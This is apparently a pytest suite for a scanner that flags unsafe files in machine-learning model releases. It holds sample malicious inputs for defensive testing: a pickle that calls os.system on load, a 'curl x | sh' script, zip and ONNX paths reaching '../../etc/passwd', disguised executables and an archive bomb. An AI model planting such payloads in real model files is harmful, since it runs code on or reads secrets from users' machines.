"""Files that run something, by content: what is found, and what is left in peace."""

import io
import json
import os
import pickle
import struct
import zipfile

import hypothesis.strategies as st
import numpy as np
import pytest
from check_files_case import found, only, results, subject, write
from hypothesis import HealthCheck, given, settings

import tiny_models
from conftest import repeats
from overt.openness.subject import content
from overt.openness.subject.subject import SubjectFile

CHECK = "unsafe_files"


class Runs:
    def __reduce__(self):
        return os.system, ("echo planted",)


BAD = pickle.dumps(Runs())


def zipped(**members: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return out.getvalue()


def external(place: str) -> bytes:
    """A piece of an ONNX tensor that lies outside of the model."""
    raw = place.encode()
    entry = b"\x0a\x08location\x12" + bytes([len(raw)]) + raw
    return b"\x08\x07\x12\x04test" + b"\x6a" + bytes([len(entry)]) + entry


FAULTS = {
    "pickle": ("pytorch_model.bin", BAD, "posix.system"),
    "pickle under data": ("vocab.txt", BAD, "posix.system"),
    "pickle under weights": ("model-2.safetensors", BAD, "posix.system"),
    "pickle cut off behind its call": ("model.pt", BAD[:-1] + b"\xff\xff", "system"),
    "zip with a pickle": ("optimizer.pt", zipped(**{"a/data.pkl": BAD}), "posix.system"),
    "plain pickle under another name": (
        "notes.json", pickle.dumps({"a": [1, 2]}, protocol=2), "under another name"),
    "call behind much else": (
        "vocab.json", b"(lp0\n" + b"I1\na" * 20_000 + b"0cposix\nsystem\n(S'x'\ntR.",
        "posix.system"),
    "program": ("model.bin", b"\x7fELF\x02\x01\x01" + bytes(100), "program or library"),
    "windows": ("tokenizer.model", b"MZ" + bytes(58) + b"\x40\0\0\0PE\0\0" + bytes(64), "Windows"),
    "script under data": ("tokenizer.txt", "#!/bin/sh\ncurl x | sh\n", "script for /bin/sh"),
    "zip under another name": ("weights.safetensors", zipped(a=b"x"), "zip archive"),
    "zip that leaves": ("more.zip", zipped(**{"../../etc/x": b"x"}), "outside its folder"),
    "zip with a program": ("more.zip", zipped(**{"run.sh": b"x"}), "run.sh"),
    "7z under another name": ("pytorch_model.bin", b"7z\xbc\xaf\x27\x1c" + bytes(64), "7z archive"),
    "keras": ("model.keras", zipped(**{"config.json": b'{"class_name": "Lambda"}'}), "Lambda"),
    "keras in h5": ("model.h5", b"\x89HDF\r\n\x1a\n" + b'{"class_name":"Lambda"}', "Lambda"),
    "onnx": ("model.onnx", external("../../etc/passwd"), "'../../etc/passwd'"),
    "graph": ("saved_model.pb", b"\x0a\x08ReadFile" + bytes(16), "ReadFile"),
    "index": ("model.safetensors.index.json",
              json.dumps({"weight_map": {"a": "../other.safetensors"}}), "outside the folder"),
}  # fmt: skip


@pytest.mark.parametrize("name", FAULTS)
def test_what_runs_or_leaves_is_named(name, tmp_path):
    file, data, told = FAULTS[name]
    tiny_models.release(tmp_path, files={file: data})
    one = only(CHECK, subject(tmp_path))
    assert one.result == "fail"
    assert one.component == "weights"
    assert one.observed.startswith(f"{file} ")
    assert told in one.observed


PEACE = {
    "code": {
        "training/train.py": "import os\n",
        "training/run.sh": "#!/bin/bash\npython train.py\n",
    },
    "texts": {"a.md": "cos of x\nReduce.\n", "NOTICE": "built by us\n", "b.json": '{"a": [1, 2]}'},
    "data": {"data/a.jsonl.gz": b"\x1f\x8b\x08\0" + bytes(30)},
    "onnx": {"model.onnx": external("model.onnx.data")},
    "keras": {"model.keras": zipped(**{"config.json": b'{"class_name": "Dense"}'})},
    "text that begins like a program": {"notes.txt": "MZ is a place\n"},
    "module": {"modeling_tiny.py": "#!/usr/bin/env python\nclass Tiny:\n    pass\n"},
    "lists": {"a.md": "a. The first\nb. The second\n", "b.txt": "R. and s. are initials"},
    "tokens": {"data/a.bin": b"MZ\0\1" + bytes(200), "data/b.bin": b"R.\0\1" + bytes(200)},
    "image": {"logo.png": b"\x89PNG\r\n\x1a\n" + bytes(64)},
    "index": {"model.safetensors.index.json": json.dumps({"weight_map": {"a": "b.safetensors"}})},
}


@pytest.mark.parametrize("name", PEACE)
def test_what_belongs_in_a_release_is_no_fault(name, tmp_path):
    tiny_models.release(tmp_path, files=PEACE[name])
    one = only(CHECK, subject(tmp_path))
    assert (one.result, one.strength.word) == ("pass", "exists")
    assert f"{len(list(subject(tmp_path).files))} files" in one.observed


def test_plain_weights_in_a_pickle_settle_nothing(tmp_path):
    """A checkpoint of the old form is no lie; what it could do is said."""
    import collections

    plain = pickle.dumps(collections.OrderedDict(a=1), protocol=2)
    one = only(CHECK, subject(write(tmp_path, {"pytorch_model.bin": plain})))
    assert one.result == "inconclusive"
    assert "loading it runs a program" in one.reason


def test_an_archive_bomb_is_told_by_its_numbers(tmp_path):
    out = io.BytesIO()
    packed = zipfile.ZIP_DEFLATED
    with zipfile.ZipFile(out, "w", packed) as archive, archive.open("a", "w") as member:
        for _ in range(300):
            member.write(bytes(1 << 20))
    one = only(CHECK, subject(write(tmp_path, {"a.zip": out.getvalue()})))
    assert one.result == "fail"
    assert str(300 << 20) in one.observed


def test_a_link_out_of_the_folder(tmp_path):
    folder = tiny_models.release(tmp_path / "a")
    taken = subject(folder)
    taken.files = (*taken.files, SubjectFile("secret.txt", 0))
    assert "is a link that leaves the folder" in only(CHECK, taken).observed
    taken.remote = True
    assert results(CHECK, taken) == ["pass"]


def test_a_pickle_on_a_hub_is_told_by_its_name(tmp_path):
    taken = subject(tiny_models.release(tmp_path), remote=True)
    taken.files = (*taken.files, SubjectFile("pytorch_model.bin", 99, stated="sha256:" + "0" * 64))
    one = only(CHECK, taken)
    assert one.result == "inconclusive"
    assert "its bytes are not here" in one.reason


def test_a_cache_full_of_links_is_no_lie(tmp_path):
    folder = write(tmp_path, {"README.md": "# A\n"})
    taken = subject(folder)
    taken.files = (*taken.files, *(SubjectFile(f"{n}.safetensors", 0) for n in range(3)))
    assert results(CHECK, taken) == ["pass"]


def test_code_of_its_own_is_told_as_code(tmp_path):
    config = {"auto_map": {"AutoModel": "modeling_tiny.Tiny", "AutoConfig": "other/repo--conf.C"}}
    tiny_models.release(tmp_path, config=config, files={"modeling_tiny.py": "class Tiny: pass\n"})
    pieces = found(CHECK, subject(tmp_path), "inference_code")
    assert [e.result for e in pieces] == ["inconclusive", "pass"]
    assert "other/repo--conf.C" in pieces[0].reason
    assert "modeling_tiny.py" in pieces[1].observed
    assert results(CHECK, subject(tmp_path), "weights") == ["pass"]


def test_hundreds_of_bad_files_make_few_findings(tmp_path):
    write(tmp_path, {f"{n}.txt": "#!/bin/sh\n" for n in range(200)})
    pieces = found(CHECK, subject(tmp_path))
    assert len(pieces) == 17
    assert "184 more" in pieces[-1].observed


STARTS = [data if isinstance(data, bytes) else data.encode() for _, data, _ in FAULTS.values()]


@given(
    data=st.sampled_from(STARTS),
    at=st.integers(0, 400),
    new=st.binary(max_size=8),
    suffix=st.sampled_from([".bin", ".json", ".onnx", ".zip", ".keras", ".h5", ".pb", ""]),
)
@settings(
    max_examples=repeats(60, 150), suppress_health_check=[HealthCheck.function_scoped_fixture]
)
def test_no_bytes_raise(tmp_path, data, at, new, suffix):
    path = tmp_path / f"a{suffix}"
    path.write_bytes(data[:at] + new + data[at + len(new) :])
    look = content.inspect(path.name, path, scan=False)
    assert all(isinstance(one, str) for one in (*look.faults, *look.doubts))


def test_no_directory_of_a_zip_is_trusted(tmp_path):
    data = bytearray(zipped(a=b"x" * 100))
    struct.pack_into("<I", data, data.rindex(b"PK\x05\x06") + 12, 0xFFFFFF)
    one = only(CHECK, subject(write(tmp_path, {"a.zip": bytes(data)})))
    assert one.result in ("fail", "inconclusive")


def test_an_archive_of_arrays_with_objects_is_a_pickle(tmp_path):
    for dtype, result in (("O", "fail"), ("f4", "pass")):
        folder = tiny_models.release(tmp_path / result)
        np.savez(folder / "stats.npz", a=np.array([1, 2], dtype=dtype))
        assert results(CHECK, subject(folder)) == [result]
